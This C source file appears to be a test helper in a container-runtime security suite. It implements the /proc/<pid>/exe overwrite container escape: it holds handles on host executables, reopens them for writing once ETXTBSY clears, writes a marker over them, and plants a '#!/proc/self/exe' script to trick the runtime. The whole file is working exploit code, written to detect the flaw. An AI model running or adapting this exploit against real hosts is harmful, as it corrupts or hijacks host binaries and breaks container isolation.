/*
 * The exe-overwrite attacker, run inside a container (linked statically:
 * the rootfs is busybox-static and has no libc). It gets an O_PATH handle on another
 * process's executable through /proc/<pid>/exe, then reopens that handle
 * for writing through /proc/self/fd/<n> until the kernel stops refusing
 * with ETXTBSY (the moment no process executes the file any more), and
 * writes a marker over the first bytes. If the handle pointed at a host
 * binary (the runtime's helper, or the runtime itself), the host copy is
 * now damaged: the suite detects that by comparing the file's bytes.
 *
 *   sec-overwrite watch RESULT SECONDS [PLANT]
 *                                        watch /proc for new processes and
 *                                        grab each one's exe (exec attacks);
 *                                        PLANT (a program the operator will
 *                                        exec) is first replaced by a script
 *                                        whose interpreter is /proc/self/exe,
 *                                        so whatever execs it runs its own
 *                                        binary again, now without the
 *                                        capabilities that kept us out
 *   sec-overwrite pid PID RESULT SECONDS grab /proc/PID/exe (a created
 *                                        container's init)
 *
 * Files that are this program or busybox (the container's own binaries)
 * are skipped. RESULT gets one line: "holding N, the last <path>" while
 * it holds handles, "overwrote <path>" on success, "held N, none writable"
 * at the deadline; /data/ready is written once watching
 * (watch) or once the handle is held (pid).
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <signal.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 64

struct held {
  int fd;
  char path[256];
};

static struct held held[MAX_HELD];
static int nheld;
static struct stat self_st, busybox_st;
static char seen[65536];
static const char *result_file = "/dev/null";

static double now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return ts.tv_sec + ts.tv_nsec / 1e9;
}

static void say(const char *file, const char *msg) {
  FILE *f = fopen(file, "w");
  if (f) {
    fputs(msg, f);
    fputc('\n', f);
    fclose(f);
  }
}

static int same(const struct stat *a, const struct stat *b) {
  return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

/* O_PATH handle on /proc/PID/exe unless it is one of the container's own
 * files. 1 when PID is settled (held, or one of ours): not worth retrying.
 * Opening fails (EACCES) while the process still has capabilities we lack,
 * so an unsettled pid is retried until it has dropped them. */
static int grab(int pid) {
  char link[64];
  struct stat st;
  if (nheld >= MAX_HELD) return 1;
  snprintf(link, sizeof link, "/proc/%d/exe", pid);
  int fd = open(link, O_PATH | O_CLOEXEC);
  if (fd < 0) return 0;
  if (fstat(fd, &st) < 0 || same(&st, &self_st) || same(&st, &busybox_st) || !S_ISREG(st.st_mode)) {
    close(fd);
    return 1;
  }
  for (int i = 0; i < nheld; i++) {
    struct stat o;
    if (fstat(held[i].fd, &o) == 0 && same(&o, &st)) {
      close(fd);
      return 1;
    }
  }
  held[nheld].fd = fd;
  ssize_t n = readlink(link, held[nheld].path, sizeof held[nheld].path - 1);
  held[nheld].path[n > 0 ? n : 0] = 0;
  nheld++;
  char msg[400];
  snprintf(msg, sizeof msg, "holding %d, the last %s", nheld, held[nheld - 1].path);
  say(result_file, msg);
  return 1;
}

/* Tries every handle once: 1 when one was reopened for writing and damaged. */
static int try_write(const char *result) {
  for (int i = 0; i < nheld; i++) {
    char p[64];
    snprintf(p, sizeof p, "/proc/self/fd/%d", held[i].fd);
    int w = open(p, O_WRONLY | O_CLOEXEC);
    if (w < 0) continue; /* ETXTBSY while it runs; EACCES/EPERM for a sealed copy */
    static const char marker[] = "\x7f" "PWNED-BY-CONTAINER";
    ssize_t n = pwrite(w, marker, sizeof marker - 1, 0);
    close(w);
    if (n > 0) {
      char msg[400];
      snprintf(msg, sizeof msg, "overwrote %s", held[i].path);
      say(result, msg);
      return 1;
    }
  }
  return 0;
}

static int last_pid;

/* Every process in /proc (slow), then the next few pids the namespace will
 * hand out (fast): a process that runs the host binary for a few
 * microseconds is caught by the second. */
static void scan(int full) {
  if (full) {
    DIR *d = opendir("/proc");
    struct dirent *e;
    if (!d) return;
    while ((e = readdir(d))) {
      int pid = atoi(e->d_name);
      if (pid <= 1 || pid >= (int)sizeof seen) continue;
      if (pid > last_pid) last_pid = pid;
      if (pid != getpid() && !seen[pid]) seen[pid] = grab(pid);
    }
    closedir(d);
  }
  for (int pid = last_pid + 1; pid <= last_pid + 4 && pid < (int)sizeof seen; pid++)
    if (!seen[pid]) seen[pid] = grab(pid);
}

int main(int argc, char **argv) {
  if (argc < 4) {
    fprintf(stderr, "usage: %s watch RESULT SECONDS | pid PID RESULT SECONDS\n", argv[0]);
    return 2;
  }
  stat("/proc/self/exe", &self_st);
  stat("/bin/busybox", &busybox_st);
  int watch = strcmp(argv[1], "watch") == 0;
  const char *result = result_file = watch ? argv[2] : argv[3];
  double deadline = now() + atof(watch ? argv[3] : argv[4]);
  if (watch && argc > 4) {
    unlink(argv[4]);
    int fd = open(argv[4], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
    if (fd < 0 || write(fd, "#!/proc/self/exe\n", 17) != 17 || close(fd) < 0) {
      perror(argv[4]);
      return 1;
    }
  }
  if (watch) {
    scan(1); /* what runs already is not a target */
    for (int pid = 2; pid < (int)sizeof seen; pid++)
      if (kill(pid, 0) == 0) seen[pid] = 1;
    say("/data/ready", "ready");
  } else {
    int pid = atoi(argv[2]);
    for (int i = 0; i < 1000 && !grab(pid); i++) usleep(1000);
    if (!nheld) {
      say(result, "could not open the exe");
      return 1;
    }
    say("/data/ready", "ready");
  }
  for (unsigned long n = 0; now() < deadline; n++) {
    if (watch) scan((n & 1023) == 0);
    if (try_write(result)) return 0;
  }
  char msg[64];
  snprintf(msg, sizeof msg, "held %d, none writable", nheld);
  say(result, msg);
  return 1;
}
